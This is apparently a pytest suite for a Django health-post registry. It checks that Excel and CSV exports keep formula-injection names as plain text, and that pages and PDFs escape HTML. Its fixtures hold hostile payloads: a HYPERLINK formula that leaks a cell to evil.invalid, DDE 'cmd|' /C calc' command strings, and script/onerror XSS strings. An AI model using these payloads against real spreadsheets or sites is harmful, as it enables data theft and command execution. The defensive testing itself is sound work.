"""Every Excel and CSV export keeps a name typed as a formula as plain text (OWASP CSV injection),
and pages and PDFs escape it.

Each user-typed text that reaches an export (a person's, a mother's, a spouse's and a Posyandu's
name) is set to a payload starting with one of ``=``, ``+``, ``-``, ``@``, tab or CR; the files are
then opened with openpyxl and the csv module, as a spreadsheet would read them: no cell is a
formula, no text cell starts with a formula character, every payload is there behind its
apostrophe, and NIK and measurements keep their exact values and types.
"""
from __future__ import annotations

import csv
import datetime as dt
import io
from decimal import Decimal
from typing import Any

import pytest
from openpyxl import load_workbook

from apps.core.cellsafety import FORMULA_STARTS
from apps.people.models import MaritalStatus, Person, Pregnancy
from apps.serviceday import services
from apps.serviceday.models import Visit
from apps.serviceday.registers import REGISTERS

pytestmark = pytest.mark.django_db
YEAR = 2026
PAYLOADS = {
    "child": '=HYPERLINK("http://evil.invalid/?x="&A1,"klik")',
    "mother": "+62 SUM(1+1)",
    "spouse": "-2+3+cmd|' /C calc'!A0",
    "wus": "@SUM(A1:A9)",
    "pregnant": "\tTab Siti",
    "elder": "\rCR Bambang",
}
POSYANDU_NAME = "=cmd|' /C notepad'!A0"
CHILD_NIK = "1771020103259901"


def _assert_safe_text(value: Any, where: str) -> None:
    if isinstance(value, str):
        assert not value.startswith(FORMULA_STARTS), f"{where}: {value!r} would run as a formula"


def sheet_cells(content: bytes) -> list[Any]:
    workbook = load_workbook(io.BytesIO(content))
    cells = []
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate} is a formula: {cell.value!r}"
                _assert_safe_text(cell.value, f"{sheet.title}!{cell.coordinate}")
                cells.append(cell)
    return cells


def csv_cells(content: bytes) -> list[str]:
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
    values = [value for row in rows for value in row]
    for value in values:
        _assert_safe_text(value, "CSV")
    return values


@pytest.fixture
def hostile(demo_posyandu: Any, persona: Any) -> dict[str, Any]:
    """A Posyandu and one person per register whose names are formula payloads."""
    kader = persona("kader")
    demo_posyandu.name = POSYANDU_NAME
    demo_posyandu.save(update_fields=["name"])

    def person(key: str, sex: str, birth: dt.date, **extra: Any) -> Person:
        p = Person(name=PAYLOADS[key], sex=sex, birth_date=birth, region=demo_posyandu.village,
                   posyandu=demo_posyandu, **extra)
        p.save()
        return p

    mother = person("mother", "P", dt.date(1997, 5, 1))
    child = person("child", "L", dt.date(2025, 3, 1), nik=CHILD_NIK, mother=mother)
    person("wus", "P", dt.date(1995, 1, 9), marital_status=MaritalStatus.MARRIED, spouse_name=PAYLOADS["spouse"])
    pregnant = person("pregnant", "P", dt.date(1999, 2, 2))
    Pregnancy.objects.create(person=pregnant, lmp_date=dt.date(YEAR, 2, 1), due_date=dt.date(YEAR, 11, 8))
    elder = person("elder", "L", dt.date(1950, 7, 7))
    day = dt.date(YEAR, 3, 9)
    session = services.open_session(posyandu=demo_posyandu, date=day, acting_user=kader)
    for who, values in [(child, {"weight_kg": Decimal("9.40"), "height_cm": Decimal("76.0"), "position": "l"}),
                        (elder, {"weight_kg": Decimal("61.5"), "height_cm": Decimal("160.0"), "systolic": 150,
                                 "diastolic": 95})]:
        services.record_visit(visit=Visit(session=session, posyandu=demo_posyandu, person=who, visit_date=day,
                                          **values), acting_user=kader)
    return {"posyandu": demo_posyandu}


def test_every_register_excel_keeps_formula_names_as_text(client_as, hostile):
    client = client_as("pengurus")  # keeps the records: the Excel carries the full NIK
    posyandu = hostile["posyandu"]
    seen: set[str] = set()
    for kind in REGISTERS.values():
        response = client.get(f"/posyandu/{posyandu.pk}/register/{kind.slug}/excel/?tahun={YEAR}")
        assert response.status_code == 200, kind.slug
        cells = sheet_cells(response.content)
        texts = {c.value for c in cells if isinstance(c.value, str)}
        # XML turns a CR in a cell into LF on reading, so the sheet holds the payload in that form.
        seen |= {key for key, payload in PAYLOADS.items() if "'" + payload.replace("\r", "\n") in texts}
        assert not any(isinstance(c.value, str) and c.value in PAYLOADS.values() for c in cells)
        assert any(POSYANDU_NAME in t for t in texts), f"{kind.slug}: the Posyandu line is missing"
        if kind.slug == REGISTERS["balita"].slug:
            # The NIK stays its 16 digits as Text; the weight stays a number, not text.
            nik = next(c for c in cells if c.value == CHILD_NIK)
            assert nik.number_format == "@"
            assert any(c.value == 9.4 or c.value == Decimal("9.40") for c in cells)
    assert seen == set(PAYLOADS), f"payloads missing from the registers: {set(PAYLOADS) - seen}"


def test_the_register_page_and_pdf_escape_names(client_as, persona, hostile):
    from apps.serviceday import exporters
    from apps.serviceday.registers import build_register

    posyandu = hostile["posyandu"]
    posyandu.name = '<script>alert("x")</script>'
    posyandu.save(update_fields=["name"])
    child = Person.objects.get(nik=CHILD_NIK)
    child.name = "<img src=x onerror=alert(1)>"
    child.save(update_fields=["name"])
    page = client_as("pengurus").get(f"/posyandu/{posyandu.pk}/register/{REGISTERS['balita'].slug}/?tahun={YEAR}")
    assert page.status_code == 200
    pdf_html = exporters.register_to_html(build_register("balita", posyandu, YEAR, persona("pengurus")))
    for text in (page.content.decode(), pdf_html):
        assert "<img src=x" not in text and "<script>alert" not in text
        assert "&lt;img src=x onerror=alert(1)&gt;" in text


def test_the_monthly_report_excel_and_every_csv_table_keep_formula_names_as_text(client_as, hostile):
    from apps.reports.dashboard_views import TABLES

    posyandu = hostile["posyandu"]
    client = client_as("kabupaten_officer")
    month = f"{YEAR}-03"
    cells = sheet_cells(client.get(f"/laporan/ekspor/posyandu/{posyandu.pk}/laporan.xlsx?bulan={month}").content)
    assert any(isinstance(c.value, str) and POSYANDU_NAME in c.value for c in cells)
    found = False
    for table in TABLES:
        for url in (f"/laporan/ekspor/wilayah/{posyandu.village_code}/tabel.csv?bulan={month}&tabel={table}",
                    f"/laporan/ekspor/posyandu/{posyandu.pk}/tabel.csv?bulan={month}&tabel={table}"):
            response = client.get(url)
            assert response.status_code == 200, url
            values = csv_cells(response.content)
            found = found or "'" + POSYANDU_NAME in values
    assert found, "no CSV table names the Posyandu"


def test_the_monthly_report_pdf_and_the_area_excel_escape_and_neutralise(client_as, persona, hostile):
    import datetime as dt

    from apps.reports import dashboard as d
    from apps.reports import exports
    from apps.reports.dashboard_views import sip_report

    posyandu = hostile["posyandu"]
    client = client_as("kabupaten_officer")
    area_xlsx = client.get(f"/laporan/ekspor/wilayah/{posyandu.village_code}/laporan.xlsx?bulan={YEAR}-03")
    assert area_xlsx.status_code == 200
    sheet_cells(area_xlsx.content)
    posyandu.name = "<script>alert(1)</script>"
    posyandu.save(update_fields=["name"])
    page = client.get(f"/laporan/posyandu/{posyandu.pk}/?bulan={YEAR}-03")
    assert page.status_code == 200
    pdf = client.get(f"/laporan/ekspor/posyandu/{posyandu.pk}/laporan.pdf?bulan={YEAR}-03")
    assert pdf.status_code == 200 and pdf.content.startswith(b"%PDF")
    period = dt.date(YEAR, 3, 1)
    officer = persona("kabupaten_officer")
    report = sip_report(officer, d.area_of_posyandu(posyandu), period, d.catalogue_for(period))
    for text in (page.content.decode(), exports.report_to_html(report, generated_by="<b>x</b>")):
        assert "<script>alert(1)</script>" not in text and "&lt;script&gt;alert(1)&lt;/script&gt;" in text


def test_the_rakor_notulen_page_and_pdf_escape_user_text(client_as, persona):
    import datetime as dt

    from django.utils import timezone

    from apps.meetings import exporters
    from apps.meetings.models import AgendaItem, Decision, Meeting, Participant
    from apps.organisations.models import TimPembina

    payload = '<img src=x onerror=alert("notulen")>'
    meeting = Meeting.objects.create(team=TimPembina.objects.get(region_code="17.71"), title=payload, place=payload,
                                     chair=payload, scheduled_at=timezone.make_aware(dt.datetime(2031, 6, 15, 9)))
    item = AgendaItem.objects.create(meeting=meeting, title=payload, notes=payload)
    Decision.objects.create(meeting=meeting, agenda_item=item, text=payload)
    Participant.objects.create(meeting=meeting, name=payload, position=payload, attended=True)
    page = client_as("kabupaten_officer").get(f"/rakor/{meeting.pk}/cetak/")
    assert page.status_code == 200
    for text in (page.content.decode(), exporters.minutes_html(meeting, generated_by=payload)):
        assert "<img src=x" not in text
        assert "&lt;img src=x onerror=alert(&quot;notulen&quot;)&gt;" in text
    pdf = client_as("kabupaten_officer").get(f"/rakor/{meeting.pk}/notulen.pdf")
    assert pdf.status_code == 200 and pdf.content.startswith(b"%PDF")
